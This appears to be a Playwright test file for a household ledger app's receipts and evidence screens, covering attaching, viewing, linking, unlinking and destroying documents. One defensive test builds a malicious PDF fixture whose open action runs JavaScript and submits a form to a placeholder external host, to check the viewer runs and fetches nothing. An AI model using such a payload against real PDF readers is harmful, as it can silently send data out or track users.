import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Locator, Page } from '@playwright/test';
import { checkAxe, expect, test } from './fixtures';
import { call, expectDone, expectScreen, goTo, HOUSEHOLD, readAgain, TODAY, writeInto } from './journey';

const PDF = readFileSync('resources/sample/documents/payslip-2026-11-13.pdf');
const PNG = readFileSync('resources/sample/documents/bath-equipment-receipt.png');

/** A household that paid a taxi and an agency, neither with a receipt. */
async function startWithPayments(page: Page): Promise<void> {
  await call(page, 'ledger.start', HOUSEHOLD);
  const payment = { accountId: 1, parts: [], evidence: 'missing', evidenceWords: '', note: '' } as const;
  await call(page, 'payments.record', { ...payment, paidOn: '2026-10-14', payee: 'City cabs', amountPence: -1250, parts: [] });
  await call(page, 'payments.record', { ...payment, paidOn: '2026-10-20', payee: 'Bright Care', amountPence: -8000, parts: [] });
  await readAgain(page, 'Home');
}

async function goToReceipts(page: Page): Promise<void> {
  await goTo(page, 'Money');
  await page.getByRole('navigation', { name: 'Places in Money' }).getByRole('link', { name: 'Evidence' }).click();
  await expectScreen(page, 'Evidence');
}

/** Drops or pastes a file, as the browser hands it over. */
async function give(target: Locator, how: 'drop' | 'paste', name: string, bytes: Uint8Array): Promise<void> {
  const files = await target.page().evaluateHandle(
    ([fileName, base64]) => {
      const transfer = new DataTransfer();
      transfer.items.add(new File([Uint8Array.from(atob(base64), (letter) => letter.charCodeAt(0))], fileName));
      return transfer;
    },
    [name, Buffer.from(bytes).toString('base64')] as const,
  );
  if (how === 'drop') return target.dispatchEvent('drop', { dataTransfer: files });
  await target.evaluate((element, clipboardData) => element.dispatchEvent(new ClipboardEvent('paste', { clipboardData, bubbles: true, cancelable: true })), files);
}

test('by keyboard alone: a receipt is chosen for a payment, seen page by page, unlinked, and linked again by undo', async ({ launch }) => {
  test.slow();
  const launched = await launch({ today: TODAY, keyboard: true });
  const { page, app, heard } = launched;
  await startWithPayments(page);
  await goTo(page, 'Money');
  await page.getByRole('table', { name: /Newest first/ }).getByRole('row', { name: /City cabs/ }).click();
  const payment = page.getByRole('dialog', { name: /City cabs/ });
  await app.answerDialog({ open: [writeInto(launched, 'taxi.pdf', PDF)] });
  await payment.getByRole('button', { name: 'Choose files for City cabs on 14 October 2026' }).click();
  await expect(payment.getByRole('status').filter({ hasText: 'Added: taxi.pdf.' })).toBeFocused();
  await checkAxe(page);

  await payment.getByRole('button', { name: 'See taxi.pdf' }).click();
  const seen = page.getByRole('dialog', { name: 'taxi.pdf' });
  await expect(seen.getByText('Net pay: £634.80')).toBeAttached();
  await expect(seen.getByRole('img', { name: 'Page 1 of 2: taxi.pdf' })).toBeVisible();
  await checkAxe(page);
  await seen.getByRole('button', { name: 'Next page' }).click();
  await expect(seen.getByText('Signed by both.')).toBeAttached();
  await seen.getByRole('region', { name: 'Page 2 of 2: taxi.pdf' }).press('PageUp');
  await expect(seen.getByRole('status').filter({ hasText: 'Page 1 of 2' })).toBeVisible();
  await page.keyboard.press('Escape');
  await expect(seen).toBeHidden();

  await payment.getByRole('button', { name: 'Unlink taxi.pdf' }).click();
  await expect(payment.getByRole('status').filter({ hasText: 'Unlinked: taxi.pdf. It is still in the ledger.' })).toBeFocused();
  await expect(payment.getByRole('list', { name: /Documents for City cabs/ })).toBeHidden();
  await payment.getByRole('button', { name: 'Undo' }).click();
  await expect(payment.getByRole('list', { name: /Documents for City cabs/ })).toContainText('taxi.pdf');
  await page.keyboard.press('Escape');
  await expect(page.getByRole('table', { name: /Newest first/ }).getByRole('row', { name: /City cabs/ })).toContainText('Kept');
  expect(heard.length).toBeGreaterThan(5);
});

test('with a mouse: dropped on a payment, pasted, found in a folder, the same twice, and the rest said to have none', async ({ launch }) => {
  test.slow();
  const launched = await launch({ today: TODAY });
  const { page, app, dataDir } = launched;
  await startWithPayments(page);
  await goToReceipts(page);
  await expect(page.getByRole('heading', { level: 1 })).toHaveText('2 payments, £92.50, have no evidence');
  await checkAxe(page);

  await give(page.getByRole('row', { name: /City cabs/ }), 'drop', 'taxi.png', PNG);
  await expectDone(page, 'Added: taxi.png.');
  await expect(page.getByRole('heading', { level: 1 })).toHaveText('1 payment, £80.00, has no evidence');
  const documents = page.getByRole('table', { name: /Documents/ });
  await expect(documents.getByRole('row', { name: /taxi.png/ })).toContainText('£12.50 to City cabs on 14 October 2026');

  await give(page.locator('body'), 'paste', 'image.png', readFileSync('resources/sample/documents/City cabs 2026-11-20 12.50.png'));
  await expectDone(page, 'Added: image.png.');
  await expect(documents.getByRole('row').nth(1)).toContainText('image.png');
  await give(page.locator('.document-drop'), 'drop', 'again.png', PNG);
  await expectDone(page, /“again.png” is here already as “taxi.png”, byte for byte the same/);
  await give(page.locator('.document-drop'), 'drop', 'sums.xlsx', new Uint8Array([0x50, 0x4b, 3, 4, 0, 0]));
  await expect(page.locator('.notice')).toContainText('“sums.xlsx” is a ZIP file, or a Word or Excel file');

  mkdirSync(join(dataDir, 'scans'));
  writeFileSync(join(dataDir, 'scans', 'Bright Care 80.00.pdf'), PDF);
  writeFileSync(join(dataDir, 'scans', 'known.png'), PNG);
  await app.answerDialog({ open: [join(dataDir, 'scans')] });
  await page.getByRole('button', { name: 'Look in a folder' }).click();
  const found = page.getByRole('dialog', { name: '1 new file found' });
  await expect(found).toContainText('1 file is in the ledger already.');
  await checkAxe(page);
  await found.getByLabel('Bright Care 80.00.pdf').check();
  await found.getByRole('button', { name: 'Add the ticked files' }).click();
  await expectDone(page, 'Added: Bright Care 80.00.pdf.');
  await page.getByRole('button', { name: /^Link it to £80.00 to Bright Care on 20 October 2026/ }).click();
  await expectDone(page, 'Linked Bright Care 80.00.pdf to £80.00 to Bright Care on 20 October 2026.');
  await expect(page.getByRole('heading', { level: 1 })).toHaveText('Every payment has its evidence');
  await page.locator('.notice').getByRole('button', { name: 'Undo' }).click();
  await expect(page.getByRole('heading', { level: 1 })).toHaveText('1 payment, £80.00, has no evidence');

  await page.getByLabel('Tick Bright Care on 20 October 2026').check();
  await page.getByRole('button', { name: 'Save the reason' }).click();
  await expect(page.getByRole('alert')).toContainText('Say why there is no evidence');
  await page.getByLabel('There is none for the ticked payments, because').fill('The agency sends one bill a quarter');
  await page.getByRole('button', { name: 'Save the reason' }).click();
  await expectDone(page, 'Noted why 1 payment has no evidence.');
  await expect(page.getByRole('heading', { level: 1 })).toHaveText('Every payment has its evidence');
});

test('a document is described, linked to a policy, copied out, taken out and destroyed', async ({ launch }) => {
  test.slow();
  const launched = await launch({ today: TODAY });
  const { page, app, dataDir } = launched;
  await startWithPayments(page);
  await call(page, 'policies.save', { id: null, insurer: 'Insurer', policyNumber: 'EL-1', from: '2026-10-01', to: '2027-09-30' });
  await goToReceipts(page);
  await app.answerDialog({ open: [writeInto(launched, 'certificate.txt', 'Employers’ liability, EL-1'), writeInto(launched, 'other.pdf', PDF)] });
  await page.getByRole('button', { name: 'Choose files to the ledger' }).click();
  await expectDone(page, 'Added: certificate.txt and other.pdf.');
  await page.getByRole('button', { name: 'See certificate.txt' }).click();
  const dialog = page.getByRole('dialog');
  await expect(dialog.getByRole('region', { name: 'Words of certificate.txt' })).toHaveText('Employers’ liability, EL-1');
  await dialog.getByLabel('Link it to').selectOption({ label: 'Insurance: Insurer, 1 October 2026 to 30 September 2027' });
  await dialog.getByRole('button', { name: 'Link it', exact: true }).click();
  await expect(dialog.getByRole('status').filter({ hasText: 'Linked to Insurance' })).toBeFocused();
  await dialog.getByText('Say what it is').click();
  await dialog.getByLabel('What it is (you can leave this empty)').fill('Certificate');
  await dialog.getByRole('button', { name: 'Save what it is' }).click();
  await expect(page.getByRole('dialog', { name: 'Certificate' })).toBeVisible();
  await app.answerDialog({ save: join(dataDir, 'copy.txt') });
  await dialog.getByRole('button', { name: 'Save a copy' }).click();
  await expect(dialog.getByRole('status').filter({ hasText: 'Saved a copy: copy.txt.' })).toBeFocused();
  expect(readFileSync(join(dataDir, 'copy.txt'), 'utf8')).toBe('Employers’ liability, EL-1');
  await checkAxe(page);
  await dialog.getByText('Take it out, or destroy it').click();
  await dialog.getByRole('button', { name: 'Take it out' }).click();
  await expectDone(page, 'Taken out: Certificate.');
  await page.getByText('1 document taken out').click();
  await page.getByLabel('Why you destroy it').fill('It was not ours');
  await page.getByRole('button', { name: 'Destroy for good' }).click();
  await expectDone(page, 'Destroyed for good: it.');
});

/** A PDF that asks for a script, a page on the network and a form to be sent as soon as it is opened. */
const HARMFUL = [
  '%PDF-1.7',
  '1 0 obj << /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\("https://example.invalid/"\\);) >> /AA << /WC << /S /URI /URI (https://example.invalid/close) >> >> >> endobj',
  '2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> endobj',
  '3 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 300 200] /Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 300 200] /A << /S /URI /URI (https://example.invalid/click) >> >>] /Contents 4 0 R /Resources << /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >> >> endobj',
  '4 0 obj << /Length 44 >> stream\nBT /F1 18 Tf 20 100 Td (Only words) Tj ET   \nendstream endobj',
  'trailer << /Root 1 0 R /Size 5 >>',
  '%%EOF',
].join('\n');

test('nothing in a PDF is run, followed or fetched, and one that is broken says so', async ({ launch }) => {
  const launched = await launch({ today: TODAY });
  const { page, app } = launched;
  await startWithPayments(page);
  await goToReceipts(page);
  await app.answerDialog({ open: [writeInto(launched, 'harmful.pdf', HARMFUL), writeInto(launched, 'broken.pdf', '%PDF-1.4 and nothing that a PDF has %%EOF')] });
  await page.getByRole('button', { name: 'Choose files to the ledger' }).click();
  await page.getByRole('button', { name: 'See harmful.pdf' }).click();
  const dialog = page.getByRole('dialog');
  await expect(dialog.getByText('Only words')).toBeAttached();
  // The fixture fails on any request that leaves the program.
  await dialog.getByRole('img').click();
  expect(await app.openedOutside()).toEqual([]);
  expect(page.url()).toContain('receipts');
  await dialog.getByRole('button', { name: 'Close' }).click();
  await page.getByRole('button', { name: 'See broken.pdf' }).click();
  await expect(dialog).toContainText('This PDF cannot be shown here. Its bytes are safe in the ledger');
  await expect(dialog.getByRole('button', { name: 'Save a copy' })).toBeVisible();
});

test('the evidence pack and the sheet for papers are saved where the person says', async ({ launch }) => {
  const launched = await launch({ today: TODAY });
  const { page, app, dataDir } = launched;
  await startWithPayments(page);
  await call(page, 'payments.setEvidence', { entryIds: [2], evidence: 'have', words: 'Receipt' });
  await goToReceipts(page);
  await page.getByRole('button', { name: 'Sheet for papers' }).click();
  const sheet = page.getByRole('dialog', { name: 'A sheet for papers' });
  await sheet.getByLabel('First day').fill('1/10/26');
  await sheet.getByLabel('Last day').fill('31/10/26');
  await checkAxe(page);
  await app.answerDialog({ open: [dataDir] });
  await sheet.getByRole('button', { name: 'Save the sheet' }).click();
  await expectDone(page, 'Saved: cover-sheet-2026-10-01-to-2026-10-31.pdf.');
  await goTo(page, 'Return');
  await app.answerDialog({ open: [dataDir] });
  await page.getByRole('button', { name: 'Save the evidence pack' }).click();
  await expectDone(page, /Saved: evidence-pack-.*\.zip\. 0 documents are in the pack/);
});
